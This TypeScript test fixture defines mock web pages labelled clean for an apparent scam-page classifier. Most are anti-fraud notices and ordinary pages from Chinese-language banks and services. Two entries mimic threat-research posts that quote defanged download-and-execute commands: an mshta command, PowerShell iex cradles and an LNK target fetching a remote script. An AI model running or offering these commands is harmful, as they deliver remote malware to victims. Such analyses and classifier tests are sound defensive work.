import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, baseCss, fontTC, fontSC, mark, footer, cookieBar, esc } from '../parts/yq-kit.js';
import { jsRoute, jsonRoute, pngRoute, cssRoute } from '../parts/e-bin.js';

const articleCss = (font: string): string =>
  baseCss(font, '#fff') +
  `article{max-width:760px;margin:30px auto;padding:0 20px;font-size:16px;line-height:1.9}
article h1{font-size:28px;line-height:1.4}article h2{font-size:21px;margin-top:32px}
blockquote{margin:14px 0;padding:10px 16px;background:#f7f7f7;border-left:4px solid #c00;color:#444}
pre{background:#1e1e1e;color:#dcdcdc;padding:14px;border-radius:6px;overflow:auto;font-size:13px;line-height:1.5}
code{font-family:Consolas,Menlo,monospace}
.meta{color:#888;font-size:13px}
table{border-collapse:collapse;width:100%;font-size:14px}td,th{border:1px solid #ddd;padding:6px 8px;text-align:left}`;

export const entries: Entry[] = [
  {
    id: 'yq-clean-165-tw-installment-scam-scripts',
    label: 'clean',
    kind: 'anti-fraud-article',
    url: 'https://165.npa.gov.tw/home/article/C/1207',
    body: doc({
      title: '解除分期付款詐騙 常見話術 - 165 全民防騙網',
      css: articleCss(fontTC) + `.hd{background:#003b79;color:#fff;padding:14px 0}`,
      body: `<div class="hd"><div class="container"><b>165 全民防騙網</b>　內政部警政署刑事警察局</div></div>
<article><h1>解除分期付款詐騙 常見話術</h1><p class="meta">發布單位：刑事警察局　更新日期：113-04-10</p>
<p>詐騙集團取得網購個資後，冒充網拍業者或銀行客服來電，以「設定錯誤」為由，要求民眾操作網路銀行或 ATM。以下為民眾提供的來電錄音摘錄：</p>
<blockquote>客服：「您好，這邊是某某購物網客服，您上次的訂單因為系統錯誤被設定成<b>經銷商批發</b>，之後每個月會自動扣款 12 期……」</blockquote>
<blockquote>假銀行：「我們這邊協助您取消，請您到 ATM 或打開網路銀行，照我的指示輸入『取消代碼』……」</blockquote>
<blockquote>「為了保護您的帳戶，請把錢轉到我們的<b>監管帳戶</b>，明天就會退回。」</blockquote>
<h2>重點提醒</h2><ul><li>ATM 與網路銀行<b>沒有</b>解除分期付款功能。</li><li>檢察官、警察不會在電話中要求轉帳，也沒有「監管帳戶」。</li><li>接到 +886 開頭或顯示「客服」的可疑來電，請掛斷後撥打 165 查證。</li></ul>
<h2>近期高風險賣場</h2><table><tr><th>排名</th><th>賣場類型</th><th>通報件數</th></tr><tr><td>1</td><td>網購平台（服飾）</td><td>312</td></tr><tr><td>2</td><td>票務平台</td><td>187</td></tr><tr><td>3</td><td>書店</td><td>96</td></tr></table></article>`,
    }),
  },
  {
    id: 'yq-clean-security-blog-clickfix-analysis-cn',
    label: 'clean',
    kind: 'security-blog',
    url: 'https://ti.qianxin-research.com/blog/articles/clickfix-fake-captcha-campaign-2024/',
    body: doc({
      title: '伪造人机验证的 ClickFix 攻击活动分析 | 威胁情报中心',
      lang: 'zh-CN',
      css: articleCss(fontSC) + `.hd{background:#111;color:#fff;padding:14px 0}.cp{float:right;background:#333;color:#fff;border:0;border-radius:4px;padding:2px 10px;font-size:12px;cursor:pointer}`,
      body: `<div class="hd"><div class="container"><b>威胁情报中心 · 研究博客</b></div></div>
<article><h1>伪造人机验证的 ClickFix 攻击活动分析</h1><p class="meta">2024-05-06 · 红雨滴团队</p>
<p>近期我们捕获到一批利用伪造“人机验证”页面投递远控木马的攻击活动。攻击者入侵下载站或通过搜索广告，将用户引导至仿冒 Cloudflare Turnstile 的页面，页面在用户点击复选框后通过 <code>navigator.clipboard.writeText()</code> 将恶意命令写入剪贴板，并诱导用户按 <b>Win+R → Ctrl+V → Enter</b> 执行。</p>
<h2>剪贴板中的命令</h2><pre><code>mshta hxxps://cdn-verify[.]oss-cn-hk[.]top/v/284731.hta # ✅ 我不是机器人 - 人机验证 ID: 284731</code></pre>
<p>命令末尾的注释用于在“运行”窗口中只显示无害文字。另一变种使用 PowerShell：</p>
<pre><code>powershell -w hidden -nop -c "iex (New-Object Net.WebClient).DownloadString('hxxps://fonts-fix[.]tw-cdn[.]com/dfkai/install.ps1')"</code></pre>
<h2>IOC</h2><button class="cp" id="cp">复制 IOC</button>
<pre id="ioc">cdn-verify[.]oss-cn-hk[.]top
fonts-fix[.]tw-cdn[.]com
meeting-tencent[.]join-room[.]cc
45.142.166[.]23
SHA256 9f1c3b0a5e2d47c8b1f6e0a9d3c2b7e4f5a6d8c9b0e1f2a3b4c5d6e7f8091a2b</pre>
<h2>防护建议</h2><ul><li>通过组策略禁用“运行”对话框或限制 mshta.exe / powershell.exe 对普通用户的执行；</li><li>任何网页都不会要求你在“运行”窗口或终端中粘贴命令完成验证；</li><li>在 EDR 中监控 explorer.exe 派生 mshta/powershell 且命令行含 URL 的行为。</li></ul></article>
<script>document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(document.getElementById('ioc').textContent).then(function(){document.getElementById('cp').textContent='已复制'})};</script>`,
    }),
  },
  {
    id: 'yq-clean-silverfox-tax-lure-report',
    label: 'clean',
    kind: 'security-blog',
    url: 'https://www.secrss.com/articles/65021',
    body: doc({
      title: '“银狐”木马借税务稽查通知钓鱼 针对财务人员 - 安全内参',
      lang: 'zh-CN',
      css: articleCss(fontSC),
      body: `<article><h1>“银狐”木马借税务稽查通知钓鱼，针对企业财务人员</h1><p class="meta">来源：安全内参　2024-04-22</p>
<p>“银狐”（Silver Fox）团伙长期以“税务稽查”“金税四期”“电子发票”“工资补贴”为诱饵，通过微信群、企业邮箱及 SEO 投放仿冒下载站，传播基于 Gh0st 的远控木马（Winos / ValleyRAT）。</p>
<h2>攻击链</h2><ol><li>受害者访问仿冒的“国家税务总局”页面，页面使用 JavaScript 将内嵌的 Base64 数据构造为 Blob 并自动下载 <code>税务稽查通知书.zip</code>（HTML Smuggling）；</li><li>压缩包内为伪装成文档的 LNK 文件，目标为：</li></ol>
<pre><code>C:\\Windows\\System32\\cmd.exe /c start /min powershell -w h -ep bypass -c "iex(iwr -useb http://45.142.166[.]23:8080/s.txt)"</code></pre>
<p>3. 后续载荷通过白加黑（DLL 侧加载）方式驻留，并添加 Run 键自启动。</p>
<h2>相关仿冒域名（已去武器化）</h2><table><tr><th>域名</th><th>仿冒对象</th></tr><tr><td>etax-chinatax.gov-cn[.]vip</td><td>国家税务总局</td></tr><tr><td>eservice-etax-nat.gov-tw[.]info</td><td>台湾财政部电子申报缴税服务网</td></tr><tr><td>sogoushurufa-pc[.]com</td><td>搜狗输入法</td></tr><tr><td>letsvpn-kuailian[.]com</td><td>快连 VPN</td></tr></table>
<h2>建议</h2><p>税务机关不会通过网页自动下载“通知书”压缩包。财务人员收到此类文件应先向 IT 部门核实；终端侧可阻止从压缩包直接执行 LNK。</p></article>`,
    }),
  },
  {
    id: 'yq-clean-hsbc-hk-contact-hotlines',
    label: 'clean',
    kind: 'support-hotline-page',
    url: 'https://www.hsbc.com.hk/zh-hk/help/contact/',
    body: doc({
      title: '聯絡我們 | 滙豐香港',
      css:
        baseCss(fontTC, '#fff') +
        `.w{max-width:900px;margin:30px auto;padding:0 20px}.g{display:grid;grid-template-columns:1fr 1fr;gap:20px}.g div{border:1px solid #e5e5e5;padding:18px}
.ph{font-size:22px;color:#db0011;font-weight:700}`,
      body: `<div class="w">${mark('HSBC 滙豐', '#db0011', { shape: 'hex', fg: '#000' })}<h1>聯絡我們</h1>
<div class="g"><div><h3>個人理財客戶服務</h3><p class="ph">(852) 2233 3000</p><p class="hint">每日 24 小時</p></div>
<div><h3>卓越理財</h3><p class="ph">(852) 2233 3322</p><p class="hint">每日 24 小時</p></div>
<div><h3>報失信用卡 / 可疑交易</h3><p class="ph">(852) 2233 3000</p><p class="hint">選擇語言後按 0</p></div>
<div><h3>PayMe 客戶服務</h3><p class="ph">(852) 3678 3990</p><p class="hint">或於 App 內「幫助」聯絡我們</p></div></div>
<h2>慎防冒充滙豐的來電</h2><p>滙豐職員不會致電要求你提供網上理財密碼、一次性密碼，或要求你把資金轉賬至「安全戶口」。如懷疑收到詐騙來電，請掛線並直接致電上列號碼查證。</p></div>`,
    }),
  },
  {
    id: 'yq-clean-alipay-help-refund-impersonation',
    label: 'clean',
    kind: 'support-help-article',
    url: 'https://cshall.alipay.com/lab/help_detail.htm?help_id=201602086431',
    body: doc({
      title: '接到“客服”电话说快递丢失要双倍理赔，是真的吗？- 支付宝客服中心',
      lang: 'zh-CN',
      css: articleCss(fontSC) + `.hd{background:#1677ff;color:#fff;padding:12px 0}`,
      body: `<div class="hd"><div class="container"><b>支付宝 · 客服中心</b></div></div>
<article><h1>接到“客服”电话说快递丢失要双倍理赔，是真的吗？</h1>
<p>这是典型的<b>冒充客服退款诈骗</b>。骗子通常会说：</p>
<blockquote>“您好，您购买的商品在运输途中丢失了，我们给您双倍赔付。请您下载会议软件，打开屏幕共享，我指导您在支付宝‘备用金’里操作退款通道……”</blockquote>
<p>随后诱导您开通借呗、备用金或信用卡，并把钱“转回”给对方。</p>
<h2>请记住</h2><ul><li>支付宝及正规商家退款会<b>原路退回</b>，无需您进行任何操作或提供验证码；</li><li>支付宝客服不会要求您下载会议软件、开启屏幕共享；</li><li>如已转账，请立即拨打 110 报警，并联系支付宝官方客服 95188。</li></ul>
<p class="meta">以上内容是否解决了您的问题？ <button>是</button> <button>否</button></p></article>`,
    }),
  },
  {
    id: 'yq-clean-waf-browser-check-then-redirect',
    label: 'clean',
    kind: 'bot-check',
    url: 'https://www.seafoodhouse.com.hk/__challenge?redirect=%2Fzh-hk%2Fproducts%2Fdried-scallop',
    body: doc({
      title: '正在檢查您的瀏覽器…',
      lang: 'zh-Hant',
      css:
        baseCss(`system-ui,${fontTC}`, '#fff') +
        `.w{max-width:560px;margin:18vh auto 0;text-align:center;padding:0 20px}
.sp{width:40px;height:40px;border:4px solid #eee;border-top-color:#1c4e80;border-radius:50%;margin:20px auto;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}
.ft{font-size:12px;color:#999;margin-top:30px}`,
      body: `<div class="w"><h2>正在檢查您的連線安全</h2><div class="sp"></div><p>這通常只需要幾秒鐘，完成後將自動轉往您要求的頁面。</p>
<noscript><p style="color:#c00">請啟用 JavaScript 及 Cookies 以繼續。</p></noscript>
<p class="ft">Request ID: 7f3e2a91c04b · 防護由 HKPayLink Shield 提供</p></div>
<script>
(async function(){
var t=await (await fetch('/__challenge/token')).json();
var n=0,h='';var enc=new TextEncoder();
while(true){var buf=await crypto.subtle.digest('SHA-256',enc.encode(t.seed+':'+n));h=Array.from(new Uint8Array(buf)).map(function(b){return b.toString(16).padStart(2,'0')}).join('');if(h.slice(0,t.bits/4)===('0'.repeat(t.bits/4)))break;n++;}
await fetch('/__challenge/verify',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({seed:t.seed,nonce:n})});
var r=new URLSearchParams(location.search).get('redirect')||'/';if(r.charAt(0)!=='/'||r.charAt(1)==='/')r='/';location.replace(r);
})();
</script>`,
    }),
    routes: {
      'www.seafoodhouse.com.hk/__challenge/token': jsonRoute({ seed: 'a91c04b7f3e2', bits: 8 }),
      'www.seafoodhouse.com.hk/__challenge/verify': jsonRoute({ ok: true }),
      'www.seafoodhouse.com.hk/zh-hk/products/dried-scallop': htmlRoute(
        doc({
          title: '北海道元貝 (2L) 300g | 海味之家',
          css: baseCss(fontTC, '#fff') + `.w{max-width:900px;margin:30px auto;display:grid;grid-template-columns:1fr 1fr;gap:30px;padding:0 20px}.p{height:340px;background:#f4e9d8;border-radius:8px}.go{background:#1c4e80;color:#fff;height:44px;padding:0 30px}`,
          body: `<div class="w"><div class="p"></div><div><h1>北海道元貝 (2L) 300g</h1><p style="font-size:24px;color:#b22">HK$ 468</p><p>日本北海道產，色澤金黃，適合煲湯及炆煮。</p><button class="btn go">加入購物車</button><p class="hint">滿 HK$600 免運費 · 門市：上環德輔道西 88 號</p></div></div>`,
        }),
      ),
    },
  },
  {
    id: 'yq-clean-parked-domain-for-sale',
    label: 'clean',
    kind: 'parked-domain',
    url: 'https://www.hkpay-wallet.com/',
    body: doc({
      title: 'hkpay-wallet.com 此域名可出售',
      lang: 'zh-Hant',
      css:
        baseCss(`Arial,${fontTC}`, '#f3f4f6') +
        `.w{max-width:720px;margin:12vh auto;background:#fff;border-radius:10px;padding:40px;text-align:center}
.d{font-size:34px;font-weight:700;word-break:break-all}.go{background:#111;color:#fff;padding:12px 30px;border-radius:6px;display:inline-block;margin-top:20px}
.ads{display:flex;flex-wrap:wrap;gap:10px;justify-content:center;margin-top:30px}.ads a{background:#eef2ff;color:#3346b8;border-radius:18px;padding:6px 14px;font-size:13px}`,
      body: `<div class="w"><div class="d">hkpay-wallet.com</div><p>此域名可能正在出售！</p><a class="go" href="https://dan.com/buy-domain/hkpay-wallet.com">立即詢價 / Make an offer</a>
<div class="ads"><a href="/lander?q=mobile+payment">Mobile Payment</a><a href="/lander?q=e-wallet+hong+kong">E-Wallet Hong Kong</a><a href="/lander?q=credit+card">Credit Card</a><a href="/lander?q=money+transfer">Money Transfer</a></div>
<p class="hint" style="margin-top:30px">本頁由域名註冊商提供。© 2024 ｜ 私隱政策</p></div>`,
    }),
  },
  {
    id: 'yq-clean-weibo-short-link-redirect',
    label: 'clean',
    kind: 'url-shortener',
    url: 'https://t.cn/A6Yx3kQp',
    routes: {
      't.cn/A6Yx3kQp': redirectRoute(302, 'https://weibo.com/ttarticle/p/show?id=2309404996201853419712'),
      'weibo.com/ttarticle/p/show': htmlRoute(
        doc({
          title: '五一出行提醒：警惕“ETC认证失效”诈骗短信 - 微博',
          lang: 'zh-CN',
          css: articleCss(fontSC),
          body: `<article><h1>五一出行提醒：警惕“ETC认证失效”诈骗短信</h1><p class="meta">@平安深圳　2024-04-28 10:05 来自 微博视频号</p>
<p>假期将至，不少车主收到类似短信：</p><blockquote>【ETC服务】您的ETC电子标签认证已失效，为避免影响通行，请尽快登录 etc-xxx[.]vip 进行认证。</blockquote>
<p>点击链接后会进入仿冒银行的页面，要求填写银行卡号、交易密码和验证码。<b>ETC 认证不需要在网页上填写银行卡密码！</b>如需办理请通过发卡银行官方 App 或拨打官方客服热线。</p>
<p>#国家反诈中心# #五一出行#</p><p class="meta">转发 2,318　评论 604　赞 9,872</p></article>`,
        }),
      ),
    },
  },
  {
    id: 'yq-clean-ctbc-forgot-password-help',
    label: 'clean',
    kind: 'password-help',
    url: 'https://www.ctbcbank.com/twrbo/zh_tw/cc_index/cc_service/cc_service_faq/forgot-password.html',
    body: doc({
      title: '忘記網路銀行密碼怎麼辦？ | 中國信託商業銀行',
      css: articleCss(fontTC),
      body: `<article>${mark('CTBC 中國信託', '#00857a', { shape: 'diamond', fg: '#333' })}<h1>忘記網路銀行使用者代碼或密碼怎麼辦？</h1>
<h2>方法一：線上重設（需持有本行晶片金融卡或信用卡）</h2><ol><li>進入 <a href="https://www.ctbcbank.com/twrbo/zh_tw/index/h_login.html">個人網路銀行登入頁</a>，點選「忘記代碼/密碼」；</li><li>輸入身分證字號、出生日期及卡片資料；</li><li>輸入本行發送至您留存手機之 OTP 簡訊密碼；</li><li>設定新的使用者代碼與密碼。</li></ol>
<h2>方法二：臨櫃辦理</h2><p>請攜帶身分證及原留印鑑至任一分行辦理。</p>
<h2>注意事項</h2><ul><li>本行不會以簡訊、LINE 或電子郵件傳送連結要求您「重設密碼」或「更新資料」；</li><li>OTP 簡訊密碼僅供您本人在本行官網或 App 輸入，請勿提供給任何人（包含自稱本行客服者）。</li></ul>
<p class="meta">客服專線：(02)2745-8080　最後更新：2024/03/15</p></article>`,
    }),
  },
  {
    id: 'yq-clean-bochk-fraud-sms-examples',
    label: 'clean',
    kind: 'anti-fraud-article',
    url: 'https://www.bochk.com/tc/aboutus/fraud_alert.html',
    body: doc({
      title: '防騙資訊 - 慎防偽冒短訊 | 中銀香港',
      css: articleCss(fontTC) + `.sms{background:#e9f5e9;border-radius:12px;padding:10px 14px;margin:10px 0;max-width:420px;font-size:14px}`,
      body: `<article>${mark('中國銀行(香港)', '#a6192e', { shape: 'square', w: 190 })}<h1>慎防偽冒中銀香港的短訊及網站</h1><p class="meta">更新日期：2024 年 4 月 15 日</p>
<p>本行留意到有偽冒短訊聲稱客戶的「流動保安編碼須重新綁定」或「手機銀行需要升級」，並附上連結至偽冒網站，騙取客戶的網上銀行登入資料、信用卡資料及一次性密碼。以下為偽冒短訊例子：</p>
<div class="sms">【中銀香港】閣下的流動保安編碼將於48小時內失效，請立即前往 hxxps://bochk-hk[.]mobile-renew[.]top/m 重新綁定，以免影響使用。</div>
<div class="sms">【BOCHK】您的賬戶存在異常登入，已暫停轉賬功能，請點擊 bochk-verify[.]com 驗證身份。</div>
<p>本行<b>不會</b>透過短訊或電郵發送附有超連結的訊息，要求客戶登入網上銀行或提供個人資料（包括登入密碼及一次性密碼）。</p>
<p>如客戶曾透過可疑網站提供個人資料，請即致電本行客戶服務熱線 (852) 3988 2388 並向警方舉報。</p>
<p>所有本行的官方短訊均以「#」號作為發送人號碼的開首（已登記短訊發送人計劃）。</p></article>`,
    }),
  },
];
